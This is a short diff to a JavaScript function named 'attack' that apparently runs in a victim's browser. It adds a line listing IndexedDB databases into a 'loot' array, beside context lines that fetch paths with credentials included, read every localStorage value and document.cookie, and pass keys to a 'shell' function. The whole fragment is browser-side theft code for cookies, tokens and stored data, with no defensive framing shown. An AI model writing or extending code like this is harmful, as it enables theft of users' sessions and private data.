@@ -59,6 +59,7 @@ async function attack(seen = []) {
     for (const mode of ['cors', 'no-cors', 'same-origin'])
       for (const redirect of ['follow', 'manual']) await read(path, { mode, redirect, credentials: 'include' });
   }
+  try { for (const { name } of await indexedDB.databases()) loot.push('database ' + name); } catch {}
   try { for (const value of Object.values(localStorage)) take('kept', value); } catch {}
   try { take('cookie', document.cookie); } catch {}
   await Promise.all(['', ...keys].map(shell));
